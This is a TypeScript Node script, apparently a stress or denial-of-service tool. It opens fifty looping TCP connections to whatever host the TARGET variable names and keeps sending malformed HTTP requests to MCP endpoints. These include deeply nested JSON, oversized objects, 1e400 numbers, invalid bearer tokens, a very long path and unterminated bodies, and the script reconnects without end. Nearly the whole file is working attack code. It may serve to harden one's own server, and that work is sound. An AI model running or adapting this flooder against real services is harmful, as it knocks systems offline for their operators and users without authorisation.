/** Fifty connections that mean harm, until it is ended: what to attack stands in the variable `TARGET`. */
import { connect } from 'node:net';

const url = new URL(process.env.TARGET ?? '');
const connections = 50;
const pauseMs = 5;

function formatPost(path: string, headers: string, body: string): string {
  const length = Buffer.byteLength(body);
  return `POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n${headers}Content-Length: ${length}\r\n\r\n${body}`;
}

const members = Array.from({ length: 1000 }, (_, index) => `"${index}":0`).join();
const wrongToken = 'Authorization: Bearer vph_wrong\r\n';
/** Without a token, and with a wrong one: deep, wide, invalid, numbers that take long, and a body that does not end. */
const attacks: readonly string[] = [
  formatPost('/mcp', '', '['.repeat(8000)),
  formatPost('/mcp', '', `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{${members.slice(0, 7000)}}`),
  formatPost(
    '/mcp',
    '',
    `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"capabilities":{"a":${'[0],'.repeat(1500)}0}}}`,
  ),
  formatPost('/mcp', '', `[${'1e400,'.repeat(1300)}0]`),
  formatPost('/agent/mcp', wrongToken, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{${members}}}`),
  formatPost('/hub/acme/mcp', wrongToken, '{}'.repeat(3000)),
  `GET /${'a'.repeat(4000)} HTTP/1.1\r\nHost: ${url.host}\r\n\r\n`,
  formatPost('/mcp', '', 'x'.repeat(8000)).slice(0, -4000),
];

function attack(index: number): void {
  const socket = connect(Number(url.port), url.hostname);
  let sent = index;
  const send = (): void => {
    if (socket.destroyed) return;
    sent += 1;
    socket.write(attacks[sent % attacks.length] ?? '');
  };
  socket.on('connect', send);
  socket.on('data', () => void setTimeout(send, pauseMs));
  socket.on('error', () => {});
  socket.on('close', () => void setTimeout(() => attack(sent), pauseMs));
  // An answer to half a body does not come.
  socket.setTimeout(1000, () => socket.destroy());
}

for (let index = 0; index < connections; index += 1) attack(index);
process.stdout.write(`${JSON.stringify({ url: url.href })}\n`);
